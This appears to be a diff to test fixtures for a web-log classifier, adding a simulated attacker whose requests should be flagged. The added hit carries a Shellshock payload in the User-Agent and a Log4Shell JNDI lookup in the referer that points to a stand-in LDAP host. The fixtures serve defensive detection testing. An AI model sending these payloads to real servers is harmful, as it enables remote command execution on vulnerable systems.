@@ -79,6 +79,14 @@ INJECTOR = Expected(
 LATE = Expected("198.51.100.99", FIREFOX, "human", 2)  # either side of local midnight
 PANEL_PROBER = Expected("203.0.113.60", CHROME, "attacker", 1, frozenset({"admin_probe"}))
 TLS_SCANNER = Expected("203.0.113.70", None, "attacker", 1, frozenset({"protocol_probe"}))
+# Exploits in headers: Shellshock as the User-Agent, Log4Shell in the referer.
+HEADER_EXPLOITER = Expected(
+    "203.0.113.80",
+    '() { :; }; /bin/bash -c "id"',
+    "attacker",
+    1,
+    frozenset({"shellshock", "log4shell"}),
+)
 
 EVERYONE = (
     ALICE,
@@ -103,6 +111,7 @@ EVERYONE = (
     INJECTOR,
     PANEL_PROBER,
     TLS_SCANNER,
+    HEADER_EXPLOITER,
     LATE,
 )
 
@@ -280,6 +289,14 @@ def crafted_hits() -> list[Hit]:
         )
     ):
         hits.append(Hit(at(90 + i), ip=INJECTOR.ip, user_agent=CHROME, path=path, query=query))
+    hits.append(
+        Hit(
+            at(36),
+            ip=HEADER_EXPLOITER.ip,
+            user_agent=HEADER_EXPLOITER.user_agent,
+            referer="${jndi:ldap://198.51.100.66:1389/a}",
+        )
+    )
     for i, path in enumerate(("/phpmyadmin/", "/administrator/", "/pma/index.php")):
         hits.append(Hit(at(95 + i), ip=PANEL_PROBER.ip, user_agent=CHROME, path=path, status=404))
     return hits
